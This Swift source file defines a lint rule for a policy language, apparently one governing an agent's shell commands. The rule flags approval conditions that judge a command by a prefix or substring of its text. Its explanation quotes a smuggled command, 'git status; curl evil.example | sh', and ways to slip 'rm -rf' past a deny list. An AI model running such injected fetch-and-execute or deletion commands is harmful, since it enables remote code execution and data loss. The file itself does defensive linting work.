import ProvisoLanguage
import ProvisoSyntax
import ProvisoText

extension LintRule {
  static let shellByText = LintRule(
    "shell-by-text", "P0425", .warning, "a command line is judged by a piece of its text",
    """
    `command.startsWith("git status")` is true of "git status; curl evil.example | sh", and a deny
    that looks for "rm -rf" misses "rm  -rf", "rm -fr" and base64. `argv(command)` gives the words
    of one simple command, `commands(command)` those of several, and both are error values for what
    shells read in more than one way. Compare whole commands: `argv(command) in [["git", "status"]]`.
    """,
    fires: """
      /// Looking.
      approve looking {
        on      shell.run
        when    args.command.startsWith("git status") && stakes <= medium
        because "It looks."
      }
      """,
    quiet: """
      /// Looking.
      approve looking {
        on      shell.run
        when    argv(args.command) in [["git", "status"]] && stakes <= medium
        because "It looks."
      }
      """
  ) { input, report in
    var told: Set<Place> = []
    for rule in input.policy.rules + input.grants {
      for term in rule.condition?.all ?? [] {
        let pattern = term.call.flatMap { call in
          call.builtin == .string(.matches) && call.arguments.count == 2 ? call.arguments : nil
        }
        let subject = PieceTest(term)?.subject ?? pattern?[0]
        guard let subject, PieceTest.subject(of: subject, like: nil) == .command,
          told.insert(term.place).inserted
        else { continue }
        let written = subject.pathText ?? "command"
        report.add(
          "a piece of a command line says nothing of what runs", at: term.place,
          "a shell reads more than this", in: rule,
          help: "`argv(\(written)) in [[\"git\", \"status\"]]`, or `commands(\(written)).all(words, …)`")
      }
    }
  }
}
